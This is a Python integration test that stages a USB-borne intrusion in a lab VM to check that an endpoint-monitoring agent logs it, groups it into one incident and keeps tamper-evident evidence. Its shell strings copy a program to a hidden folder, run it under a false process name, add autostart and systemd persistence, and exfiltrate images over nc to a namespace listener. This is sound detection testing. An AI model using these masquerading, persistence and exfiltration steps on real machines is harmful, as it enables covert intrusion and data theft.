#!/usr/bin/env python3
"""crime.py RUN_DIR [JUDGE_DIR]

The crime, on real input: HQ runs on this host and the agent in the rig's guest; a stick goes in, a program is copied
off it into a hidden folder and started, the stick is pulled; somebody logs in remotely, and that program sends images
out. HQ is away all the while, and the desk tells it as one incident. Then what the log, HQ and both judges say of it.
After that the agent is killed under load, and HQ is away under load.

JUDGE_DIR holds judge and mutate as agent/src/it/judge/build.sh leaves them. env: RIG, WG_RIG_CACHE or RIG_CACHE.
One line a check; exit 0 only when every check passed.
"""
import json
import os
import shutil
import sys
import time

import lab

SERIAL = "WG-CRIME-0001"
HIDDEN = "/home/courier/.cache/.x/wpsupdate"
STORY = ["usb.attach", "volume.mount", "program.new", "proc.start", "autostart.new", "volume.unmount", "usb.detach"]

# Copies the program off the stick and starts it under another name, as the courier would be made to.
COPY_AND_START = """
set -e
mkdir -p /mnt/u && mount -t vfat /dev/sda /mnt/u
runuser -u courier -- mkdir -p %(folder)s
runuser -u courier -- cp /mnt/u/busybox %(path)s
runuser -u courier -- chmod 755 %(path)s
sleep 2
runuser -u courier -- bash -c 'exec -a sleep %(path)s 3'
printf '[Desktop Entry]\\nType=Application\\nName=Update\\nExec=%(path)s 1\\n' >/tmp/u.desktop
runuser -u courier -- mkdir -p /home/courier/.config/autostart
runuser -u courier -- cp /tmp/u.desktop /home/courier/.config/autostart/wps-update.desktop
printf '[Service]\\nExecStart=%(path)s 1\\n[Install]\\nWantedBy=multi-user.target\\n' >/etc/systemd/system/wps-update.service
umount /mnt/u
""" % {"folder": os.path.dirname(HIDDEN), "path": HIDDEN}

IMAGES, IMAGE_BYTES, TAKEN = 90, 200_000, 60
HERE, THERE, PORT = "10.77.0.1", "10.77.0.2", 8080

# Images on the desk, and a network of its own to come from and to send to.
ELSEWHERE = """
set -e
for i in $(seq -w %(images)d); do
  { printf '\\377\\330\\377\\340'; head -c %(bytes)d /dev/urandom; } >/srv/scan/SF12345678900$i.jpg
done
ip netns add out
ip link add out0 type veth peer name out1 netns out
ip addr add %(here)s/24 dev out0
ip link set out0 up
ip -n out addr add %(there)s/24 dev out1
ip -n out link set out1 up
ip -n out link set lo up
""" % {"images": IMAGES, "bytes": IMAGE_BYTES, "here": HERE, "there": THERE}

# Counts what one connection sends, and leaves the number.
SINK = r"""
use strict; use warnings; use IO::Socket::INET;
my $door = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => %d, Listen => 1, ReuseAddr => 1) or die "$!";
my ($got, $some) = (0, "");
my $from = $door->accept();
$got += length $some while sysread($from, $some, 65536);
open(my $out, ">", "/share/sink.tmp") or die; print $out $got; close $out; rename "/share/sink.tmp", "/share/sink";
""" % PORT

# What whoever logged in does: the program off the stick reads images and sends them.
SEND = "ls /srv/scan/*.jpg | head -%d | xargs bash -c 'exec -a cat %s \"$@\"' x | bash -c 'exec -a nc %s %s %d'" % (TAKEN, HIDDEN, HIDDEN, THERE, PORT)

# Writes N small ELF files, all different, PAUSE seconds apart.
LOAD = """
mkdir -p /home/courier/%(tag)s
for i in $(seq %(count)d); do
  { head -c 64 /bin/true; echo %(tag)s $i; } >/home/courier/%(tag)s/p$i
  sleep %(pause)s
done
echo done >/share/%(tag)s.done
"""


class Scenario:
    def __init__(self, folder, judges):
        self.folder, self.judges, self.checks = folder, judges, lab.Checks()
        self.hq, self.guest = lab.Hq(folder), lab.Guest(folder)
        self.agent = lab.GuestAgent(self.guest)
        self.id = None

    def run(self):
        try:
            self.begin()
            self.hq.stop()
            self.crime()
            self.theft()
            self.one_incident()
            self.hq.start()
            self.proof("after the crime")
            self.killed()
            self.hq_away()
            self.last_word()
        except lab.Broken as e:
            self.checks.that("the scenario runs to its end", False, e)
            self.aftermath()
        finally:
            self.guest.stop()
            self.hq.stop()
        return self.checks.status()

    def aftermath(self):
        """What both sides say of themselves where the scenario could not go on, so that a build server's output tells why."""
        print("agent: %s" % self.agent.cli("status --json").said(), flush=True)
        print("ways to HQ, in the guest: %s" % self.guest.sh("ss -Htnp | grep :18443; pgrep -a java").out.strip()[:900], flush=True)
        for name, text in [("run-%d.err" % self.agent.starts, lab.read(os.path.join(self.guest.share, "run-%d.err" % self.agent.starts))),
                           ("hq-%d.err" % self.hq.starts, lab.read(os.path.join(self.folder, "hq-%d.err" % self.hq.starts)))]:
            print("last of %s:\n%s" % (name, text[-2500:]), flush=True)

    # --- HQ, guest, enrolment ------------------------------------------------------------------

    def begin(self):
        check = self.checks.that
        line = self.hq.start()
        check("HQ is ready and names both addresses and its CA", sorted(self.hq.facts) == ["agent", "ca_sha256", "console"], line)
        print("guest: " + self.guest.boot(), flush=True)
        self.guest.tunnel(self.hq.port)
        installed = self.agent.install()
        check("the agent is in the guest", installed.status == 0, installed.said())
        words = "enroll --hq https://127.0.0.1:18443 --token %s --ca-sha256 %s" % (self.hq.token(), self.hq.facts["ca_sha256"])
        for again in ("", " a second time with the same token"):
            enrolled = self.agent.cli(words)
            check("enrols%s" % again, enrolled.status == 0, enrolled.said())
        begin = time.time()
        line = self.agent.start()
        check("the agent is ready with every sensor live", "blind=" not in line or line.endswith("blind="), "%s (%.1f s)" % (line, time.time() - begin))

    # --- the crime -----------------------------------------------------------------------------

    def crime(self):
        check = self.checks.that
        # What starts by itself is compared with what did when the agent first looked, which takes a while here.
        lab.wait_for("the first look at what starts by itself", lambda: self.seen("autostart.baseline"), 120, 2)
        before = len(self.agent.records())
        self.guest.plug("stick", SERIAL)
        lab.wait_for("the stick's block device", lambda: self.guest.sh("test -b /dev/sda").status == 0, 30)
        done = self.guest.sh(COPY_AND_START, 90)
        if not check("stick mounted, program copied, started, stick unmounted", done.status == 0, done.said()):
            raise lab.Broken("without the crime there is nothing to prove")
        sha256 = self.guest.sh("sha256sum %s" % HIDDEN).out.split()[0]
        self.guest.unplug("stick")
        seen = lab.wait_for("the record of the pulled stick", lambda: self.told(before), 90, 2)
        self.told_right(seen, sha256)

    def told(self, before):
        """The records since the stick went in, once the last of the story is there."""
        records = self.agent.records()[before:]
        starts = [r for r in records if r["type"] == "autostart.new" and HIDDEN in lab.values(r["event"], "program")]
        return records if len(starts) >= 2 and any(r["type"] == "usb.detach" for r in records) else None

    def seen(self, kind):
        return any(r["type"] == kind for r in self.agent.records())

    def told_right(self, records, sha256):
        check = self.checks.that
        first = {}
        for record in records:
            about_us = record["type"] not in ("program.new", "proc.start") or HIDDEN in lab.values(record["event"], "path")
            if about_us:
                first.setdefault(record["type"], record)
        missing = [kind for kind in STORY if kind not in first]
        if not check("each step of the crime is in the log", not missing, "missing %s of %s" % (missing, [r["type"] for r in records])):
            return
        # What starts by itself is read when its file was left alone for a moment: the stick may be out by then.
        steps = [kind for kind in STORY if kind != "autostart.new"]
        order = [first[kind]["seq"] for kind in steps]
        check("the steps are in the order in which they happened", order == sorted(set(order)), dict(zip(steps, order)))
        starts = [r for r in records if r["type"] == "autostart.new" and HIDDEN in lab.values(r["event"], "program")]
        check("the service and the desktop entry that start it are told, with its hash",
              sorted(r["event"]["unmapped"]["point"] for r in starts) == ["autostart", "systemd_units"]
              and all(sha256 in lab.values(r["event"], "program_sha256") for r in starts), [r["summary"] for r in starts])
        found = [r["event"]["unmapped"] for r in records if r["type"] == "finding.new"]
        rules = sorted({f["rule"] for f in found if HIDDEN in (f.get("path"), f.get("program"))} | {f["rule"] for f in found if f["rule"].startswith("unknown-")})
        check("what came off the stick and what starts it are findings", rules == ["program-from-removable-media", "starts-by-itself", "unknown-usb-storage"], found)
        events = {kind: first[kind]["event"] for kind in STORY}
        for kind in ("usb.attach", "usb.detach"):
            check("%s names the stick's serial" % kind, SERIAL in lab.values(events[kind], "serial_number"), lab.values(events[kind], "serial_number"))
        mount = events["volume.mount"]
        check("the mounted volume is removable", 1 in lab.values(mount, "drive_type_id"), lab.values(mount, "drive_type_id"))
        check("the mount point is told", "/mnt/u" in lab.values(mount, "path"), lab.values(mount, "path"))
        copied, started = events["program.new"], events["proc.start"]
        target = copied.get("file_result", {})
        check("the copy is the program at its hidden path", target.get("path") == HIDDEN, target.get("path"))
        check("the copy's SHA-256 is the file's", lab.values(target.get("hashes", []), "value") == [sha256], target.get("hashes"))
        source = copied.get("file", {})
        check("the copy came off the stick, from the same bytes", source.get("drive_type_id") == 1 and source.get("path") == "/mnt/u/busybox"
              and lab.values(source.get("hashes", []), "value") == [sha256], source)
        check("the copy's origin is told as removable", copied.get("unmapped", {}).get("origin") == "removable", copied.get("unmapped"))
        writer = copied.get("actor", {}).get("process", {})
        check("the copy was made by cp", writer.get("name") == "cp" or str(lab.values(writer, "path")).endswith("/cp']"), writer)
        process = started.get("process", {}).get("file", {})
        check("what was started is the program at its hidden path", process.get("path") == HIDDEN, process.get("path"))
        check("what was started has the same SHA-256", lab.values(process.get("hashes", []), "value") == [sha256], process.get("hashes"))
        classes = {kind: (first[kind]["class_uid"], first[kind]["activity_id"]) for kind in STORY}
        check("OCSF classes and activities", classes["usb.attach"] == (1010, 1) and classes["usb.detach"] == (1010, 5)
              and classes["volume.mount"] == (1001, 12) and classes["program.new"] == (1001, 1) and classes["proc.start"] == (1007, 1), classes)

    # --- days later, for the log: the login and what it is for ---------------------------------

    def theft(self):
        check = self.checks.that
        made = self.guest.sh(ELSEWHERE, 120)
        check("images on the desk, and somewhere to send them", made.status == 0, made.said())
        with open(os.path.join(self.guest.share, "sink.pl"), "w") as f:
            f.write(SINK)
        shutil.copyfile(os.path.join(lab.CACHE, "id_guest"), os.path.join(self.guest.share, "id_guest"))
        self.guest.spawn("ip netns exec out perl /share/sink.pl")
        login = "cp /share/id_guest /root/id && chmod 600 /root/id && ip netns exec out ssh -tt -i /root/id -o StrictHostKeyChecking=no"
        login += " -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR courier@%s <<'X'\nsleep 3\n%s\nsleep 2\nexit\nX" % (HERE, SEND)
        gone = self.guest.sh(login, 120)
        self.sent = int(lab.wait_for("the images' arrival elsewhere", lambda: lab.read(os.path.join(self.guest.share, "sink")), 60))
        check("the program off the stick sends images during a remote login", self.sent > TAKEN * IMAGE_BYTES, "%d bytes; %s" % (self.sent, gone.said()))

    def incidents(self):
        told = self.agent.cli("incidents --json").json()["incidents"]
        return [i for i in told if i["severity"] not in ("info", "informational", "low")]

    def one_incident(self):
        check = self.checks.that

        def whole():
            told = self.incidents()
            return told if any(s["step"] == "upload" for i in told for s in i["steps"]) else None

        try:
            told = lab.wait_for("the end of the story", whole, 90, 2)
        except lab.Broken:
            told = self.incidents()
        if not check("all of it is one incident", len(told) == 1, [i["story"] for i in told]):
            return
        crime = told[0]
        order = list(dict.fromkeys(s["step"] for s in crime["steps"]))
        check("its steps are the crime's, in their order", order == ["stick", "program", "autostart", "remote_login", "images", "upload"], crime["story"])
        check("it is critical", crime["severity"] == "critical", crime["severity"])
        check("it counts the images exactly", crime["images"] == TAKEN, crime["images"])
        off = 100.0 * (crime["bytes_out"] - self.sent) / self.sent
        check("it has the bytes within 2 %", abs(off) <= 2, "%d of %d: %+.2f %%" % (crime["bytes_out"], self.sent, off))
        check("it says where to", crime["destination"] == "%s:%d" % (THERE, PORT), crime["destination"])
        check("the login's true peer is in the story", any(THERE in s["text"] for s in crime["steps"] if s["step"] == "remote_login"), crime["story"])
        late = [r["event"]["time"] - r["event"]["unmapped"]["steps"][-1]["at"] for r in self.agent.records() if r["type"].startswith("incident.")]
        check("each step is in it when it is known", late and max(late) <= 5000, "%s ms" % late)
        shown = self.agent.cli("incidents show %s --lang zh" % crime["id"])
        print(shown.out, flush=True)
        check("and told in Chinese, offline", shown.status == 0 and "现在要做" in shown.out, shown.said())

    # --- what HQ holds -------------------------------------------------------------------------

    def held(self, size, seconds=180):
        """Waits until HQ has cosigned that it holds so many records."""
        def there():
            desk = self.hq.workstation(self.id)
            return desk if desk and desk["witnessed_size"] >= size else None

        return lab.wait_for("HQ's cosignature of %d records" % size, there, seconds, 1)

    def proof(self, when):
        check = self.checks.that
        size = self.agent.records()[-1]["seq"] + 1
        begin = time.time()
        desk = self.held(size)
        self.id = desk["id"]
        check("HQ holds and has cosigned the records %s" % when, desk["state"] == "live", "%s (%.1f s)" % (desk, time.time() - begin))
        bundle = self.pull("crime")
        leaves = self.leaves(bundle)
        check("the bundle holds every record once, from 0 on", sorted(leaves) == list(range(len(leaves))) and len(leaves) >= size, "%d records, %d asked" % (len(leaves), size))
        self.judged(bundle)
        self.edited(bundle)

    def pull(self, name):
        bundle = os.path.join(self.folder, name)
        shutil.rmtree(bundle, ignore_errors=True)
        pulled = self.hq.on_data("evidence", "pull", "--workstation", self.id, "-o", bundle)
        self.checks.that("evidence pull", pulled.status == 0, pulled.said())
        if not os.path.isdir(bundle):
            raise lab.Broken("evidence pull left no folder %s" % bundle)
        return bundle

    def leaves(self, bundle):
        found, records = {}, os.path.join(bundle, "data", "records")
        for name in os.listdir(records):
            if name.endswith(".json"):
                with open(os.path.join(records, name), "rb") as f:
                    found[int(name[:-5])] = f.read()
        return found

    def keys(self, bundle):
        """The epoch-0 key and HQ's keys, as the judges' words."""
        with open(os.path.join(bundle, "data", "log", "keys")) as f:
            first = f.readline().split(" ", 1)[1].strip()
        with open(os.path.join(bundle, "data", "log", "witness.vkey")) as f:
            return first, f.read().split()

    def judged(self, bundle):
        check = self.checks.that
        first, cosigners = self.keys(bundle)
        verdict = self.hq.cli("evidence", "verify", bundle, "--first", first, "--witness", cosigners[0], "--json")
        check("the product's verifier says it holds", verdict.status == 0 and verdict.json()["holds"], verdict.out or verdict.said())
        if self.judges is None:
            print("SKIPPED the independent judge: no JUDGE_DIR given", flush=True)
            return
        words = [os.path.join(self.judges, "judge"), "-first", first] + [w for c in cosigners for w in ("-witness", c)]
        verdict = lab.run(words + [bundle])
        said = verdict.json()
        check("the independent judge says it holds", verdict.status == 0 and said["holds"], "%d records of %d; refused %s" % (said["records"], said["size"], said["refused"][:5]))

    def edited(self, bundle):
        """One byte changed, anywhere, with and without the manifests remade: both judges refuse."""
        if self.judges is None:
            print("SKIPPED edits of the bundle: no JUDGE_DIR given", flush=True)
            return
        first, cosigners = self.keys(bundle)
        product = " ".join(lab.JVM + ["-jar", lab.HQ_JAR, "evidence", "verify", "--first", first, "--witness", cosigners[0]])
        words = [os.path.join(self.judges, "mutate"), "-n", "800", "-files", "700", "-first", first, "-witness", cosigners[0]]
        changed = lab.run(words + ["-product", product, "-product-n", "6", bundle], 400)
        self.checks.that("every edit of the bundle is refused", changed.status == 0, changed.out or changed.said())

    # --- kill -9 -------------------------------------------------------------------------------

    def load(self, tag, count, pause):
        self.guest.spawn(LOAD % {"tag": tag, "count": count, "pause": pause})
        return count

    def loaded(self, tag, seconds=120):
        lab.wait_for("the end of load " + tag, lambda: lab.read(os.path.join(self.guest.share, tag + ".done")), seconds)

    def killed(self):
        check = self.checks.that
        held_before = self.hq.workstation(self.id)["witnessed_size"]
        self.load("kill", 200, 0.01)
        lab.wait_for("load under way", lambda: self.guest.sh("test -e /home/courier/kill/p80").status == 0, 60, 0.2)
        self.agent.signal("9")
        durable, _ = self.agent.stored("killed")
        check("durable at the kill", len(durable) > held_before, "%d records, HQ held %d" % (len(durable), held_before))
        check("no gap at the kill", sorted(durable) == list(range(len(durable))), len(durable))
        self.loaded("kill")
        begin = time.time()
        line = self.agent.start()
        ready = time.time() - begin
        records = self.agent.records()
        seqs = [r["seq"] for r in records]
        check("after the restart records are there once each, without a gap", seqs == list(range(len(seqs))) and len(seqs) > len(durable),
              "%d records; %s (%.1f s)" % (len(seqs), line, ready))
        starts = [r for r in records if r["type"] == "log.start" and r["seq"] >= len(durable)]
        said = [r["event"].get("status_detail") for r in starts]
        check("the first record after the kill says the stop was unclean", said == ["unclean"] and starts[0]["seq"] == len(durable), "%s at %s" % (said, [r["seq"] for r in starts]))
        self.held(len(seqs))
        leaves = self.leaves(self.pull("killed"))
        changed = [i for i in durable if leaves.get(i) != durable[i]]
        check("every durable record is at HQ with the same bytes", not changed, "%d compared, differing %s" % (len(durable), changed[:10]))
        check("HQ has each record once", sorted(leaves) == list(range(len(leaves))), len(leaves))
        check("HQ saw no roll-back", self.hq.workstation(self.id)["state"] == "live", self.hq.workstation(self.id)["state"])

    # --- HQ away -------------------------------------------------------------------------------

    def hq_away(self):
        check = self.checks.that
        held_before = self.hq.workstation(self.id)["witnessed_size"]
        self.hq.stop()
        begin = time.time()
        count = self.load("away", 250, 0.01)
        self.loaded("away")
        deadline = time.time() + 420  # the guest is slow, and records what it saw in its own time
        waiting = self.agent.cli("status --json").json()
        while waiting["hq"]["backlog"] < count and time.time() < deadline:
            time.sleep(2)
            waiting = self.agent.cli("status --json").json()
        check("a backlog is waiting while HQ is away", waiting["hq"]["backlog"] >= count, waiting["hq"])
        line = self.hq.start()
        back = time.time()
        size = self.agent.records()[-1]["seq"] + 1
        desk = self.held(size, 240)
        check("the backlog arrives and HQ is not misled about the desk", desk["state"] == "live",
              "HQ held %d before, %d after; away %.0f s, caught up in %.0f s; %s" % (held_before, desk["witnessed_size"], back - begin, time.time() - back, line))
        bundle = self.pull("away")
        leaves = self.leaves(bundle)
        check("HQ has each record once, in order", sorted(leaves) == list(range(len(leaves))) and len(leaves) >= size
              and all(json.loads(raw)["seq"] == i for i, raw in leaves.items()), len(leaves))
        paths = [p for r in self.agent.records() if r["type"] == "program.new" for p in {r["event"]["file"]["path"]}]
        mine = [p for p in paths if p.startswith("/home/courier/away/")]
        check("each of the new programs is recorded once", len(mine) == count and len(set(mine)) == count, "%d records of %d files" % (len(mine), count))

    # --- a clean end ---------------------------------------------------------------------------

    def last_word(self):
        check = self.checks.that
        verified = self.agent.cli("evidence verify --json", 400)
        check("the agent's own log verifies", verified.status == 0 and verified.json()["holds"], verified.out or verified.said())
        self.agent.signal("TERM")
        stored, keys = self.agent.stored("stopped")
        check("SIGTERM ends with log.stop", json.loads(stored[max(stored)])["type"] in ("log.stop", "log.key"), json.loads(stored[max(stored)])["type"])
        bundle = self.pull("last")
        leaves = self.leaves(bundle)
        differing = [i for i in leaves if leaves[i] != stored.get(i)]
        check("HQ's bytes are the agent's bytes", leaves and not differing, "%d compared, differing %s" % (len(leaves), differing[:10]))
        check("the bundle's first key is the agent's first key", self.keys(bundle)[0] == keys[0], keys[0])
        self.judged(bundle)
        self.checks.that("no stack trace on the agent's stderr", not any(
            lab.STACK_TRACE.search(lab.read(os.path.join(self.guest.share, "run-%d.err" % n))) for n in range(1, self.agent.starts + 1)))


def main():
    if len(sys.argv) not in (2, 3):
        sys.exit(__doc__)
    folder = os.path.abspath(sys.argv[1])
    os.makedirs(folder, exist_ok=True)
    shutil.rmtree(os.path.join(folder, "hq-data"), ignore_errors=True)
    sys.exit(Scenario(folder, os.path.abspath(sys.argv[2]) if len(sys.argv) == 3 else None).run())


if __name__ == "__main__":
    main()
